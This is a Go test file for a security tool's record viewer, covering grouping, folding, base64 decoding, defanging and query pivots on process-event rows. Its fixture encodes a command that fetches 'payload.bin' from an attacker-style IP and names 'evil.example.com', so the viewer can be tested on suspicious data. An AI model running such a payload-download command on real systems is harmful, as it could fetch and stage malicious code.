package record_test

import (
	"encoding/base64"
	"strings"
	"testing"
	"time"

	tea "charm.land/bubbletea/v2"

	"quarry/table"
	"quarry/ui/widget/record"
)

// event returns a row like those of DeviceProcessEvents with something of every kind.
func event() *table.Table {
	columns := []table.Column{
		{Name: "Timestamp", Type: table.DateTime}, {Name: "DeviceName", Type: table.String},
		{Name: "ProcessCommandLine", Type: table.String}, {Name: "SHA256", Type: table.String},
		{Name: "InitiatingProcessFileName", Type: table.String}, {Name: "AccountName", Type: table.String},
		{Name: "RemoteIP", Type: table.String},
		{Name: "AdditionalFields", Type: table.Dynamic}, {Name: "RawEventData", Type: table.String},
		{Name: "Verdict", Type: table.String},
	}
	b := table.NewBuilder(columns)
	for _, name := range []string{"ws-1.contoso.com", "ws-2.contoso.com"} {
		b.Append(table.NewTime(time.Date(2026, 11, 23, 10, 0, 0, 0, time.UTC)), table.NewString(name),
			table.NewString("sh -c "+base64.StdEncoding.EncodeToString([]byte("curl http://10.1.2.3/payload.bin"))),
			table.NewString(strings.Repeat("ab", 32)),
			table.NewString("cmd.exe"), table.Null(table.String), table.NewString("10.1.2.3"),
			table.NewDynamic(`{"Level":"High","Tries":3,"Local":false,"Odd key":null,"Inner":{"Items":["a",2.5]}}`),
			table.NewString(`{"Target":"{\"Host\":\"evil.example.com\"}"}`), table.NewString(""))
	}
	return b.Table()
}

func typeText(m *record.Model, text string) {
	for _, r := range text {
		m.HandleKey(tea.KeyPressMsg{Code: r, Text: string(r)})
	}
}

// find moves the cursor to the first value that holds the text.
func find(m *record.Model, text string) {
	typeText(m, "g/"+text)
	m.HandleKey(tea.KeyPressMsg{Code: tea.KeyEnter})
}

func wants(t *testing.T, m *record.Model, texts ...string) {
	t.Helper()
	for _, want := range texts {
		if view := m.View(); !strings.Contains(view, want) {
			t.Errorf("%q is not in\n%s", want, view)
		}
	}
}

func TestColumnsAreGrouped(t *testing.T) {
	m := shown(event(), 80, 40)
	view := m.View()
	last := -1
	for _, title := range []string{" Event ", " Device ", " Initiating process ", " Process ", " File ", " Account ",
		" Network ", " Other "} {
		at := strings.Index(view, title)
		if at <= last {
			t.Errorf("the group%sis not in its place in\n%s", title, view)
		}
		last = at
	}
	press(m, "o")
	if strings.Contains(m.View(), " Device ") {
		t.Errorf("ungrouped, there are groups:\n%s", m.View())
	}
}

func TestPartsFoldAndStayFoldedInTheNextRow(t *testing.T) {
	answer := event()
	m := shown(answer, 80, 60)
	wants(t, m, "Level: High", "Items: [2 items]", "0: a", "Host: evil.example.com", "domain")
	find(m, "additional")
	press(m, " ")
	if strings.Contains(m.View(), "Level: High") {
		t.Errorf("folded, the parts are still there:\n%s", m.View())
	}
	m.SetRow(answer, 1)
	if strings.Contains(m.View(), "Level: High") {
		t.Errorf("in the next row the parts are unfolded:\n%s", m.View())
	}
	find(m, "level") // a match unfolds its parents
	wants(t, m, "Level: High")
}

func TestDecodedTextIsShownBelowItsValue(t *testing.T) {
	m := shown(event(), 80, 60)
	wants(t, m, "in base64", "curl http://10.1.2.3/payload.bin")
	find(m, "curl")
	if got, want := press(m, "y"), (record.CopyText{Text: "curl http://10.1.2.3/payload.bin",
		What: "text decoded from ProcessCommandLine"}); got != want {
		t.Errorf("y gives %+v, want %+v", got, want)
	}
	press(m, "d")
	wants(t, m, "hxxp[://]10.1.2[.]3/payload.bin", "defanged")
	if copied, _ := press(m, "y").(record.CopyText); copied.Text != "curl hxxp[://]10.1.2[.]3/payload.bin" {
		t.Errorf("defanged, y copies %q", copied.Text)
	}
}

func TestValuesGoIntoTheQuery(t *testing.T) {
	tests := []struct {
		find, inside string
		value        table.Value
	}{
		{"SHA256", "", table.NewString(strings.Repeat("ab", 32))},
		{"Level: ", "AdditionalFields.Level", table.NewString("High")},
		{"Tries: ", "AdditionalFields.Tries", table.NewLong(3)},
		{"Local: ", "AdditionalFields.Local", table.NewBool(false)},
		{"Odd key: ", `AdditionalFields["Odd key"]`, table.Null(table.Dynamic)},
		{"1: 2.5", "AdditionalFields.Inner.Items[1]", table.NewReal(2.5)},
		{"Host: ", "parse_json(tostring(parse_json(RawEventData).Target)).Host", table.NewString("evil.example.com")},
	}
	for _, test := range tests {
		m := shown(event(), 80, 60)
		// Names of parts end with a colon and a space.
		find(m, strings.TrimSuffix(test.find, ": "))
		got, _ := press(m, "+").(record.Restrict)
		if got.Inside != test.inside || got.Value != test.value {
			t.Errorf("%s: + gives %+v, want %q and %v", test.find, got, test.inside, test.value)
		}
		if pivot, ok := press(m, "p").(record.Pivot); !ok || pivot.Column.Name == "" {
			t.Errorf("%s: p gives %+v", test.find, pivot)
		}
	}
}

func TestEmptyColumnsCanBeHidden(t *testing.T) {
	m := shown(event(), 80, 60)
	wants(t, m, "AccountName", "Verdict")
	press(m, "e")
	if view := m.View(); strings.Contains(view, "AccountName") || strings.Contains(view, "Verdict") ||
		strings.Contains(view, " Account ") {
		t.Errorf("empty columns are still shown:\n%s", view)
	}
	wants(t, m, "2 empty columns hidden")
}

func TestSearchVisitsAllMatches(t *testing.T) {
	m := shown(event(), 80, 12)
	find(m, "10.1.2.3")
	var found []string
	for range 3 {
		copied, _ := press(m, "y").(record.CopyText)
		found = append(found, copied.What)
		press(m, "n")
	}
	if got, want := strings.Join(found, ", "),
		"text decoded from ProcessCommandLine, RemoteIP, text decoded from ProcessCommandLine"; got != want {
		t.Errorf("n goes to %s, want %s", got, want)
	}
	if !m.Escape() || m.Escape() {
		t.Error("escape does not end the search once")
	}
}

// FuzzEveryKeyFillsTheScreen tries any keys on any value: no panic, and always the exact size.
func FuzzEveryKeyFillsTheScreen(f *testing.F) {
	f.Add(`{"a":[1,{"b":"c"}],"a":null}`, "jj zezo/a\n n+p")
	f.Add("\x1b[2J{\xff", "G g d y")
	f.Fuzz(func(t *testing.T, value, keys string) {
		m := shown(row(table.NewString(value), table.NewDynamic(value), table.Null(table.Long)), 41, 9)
		for _, r := range keys {
			m.HandleKey(tea.KeyPressMsg{Code: r, Text: string(r)})
			if lines := strings.Count(m.View(), "\n") + 1; lines != 9 {
				t.Fatalf("after %q: %d lines", keys, lines)
			}
		}
	})
}
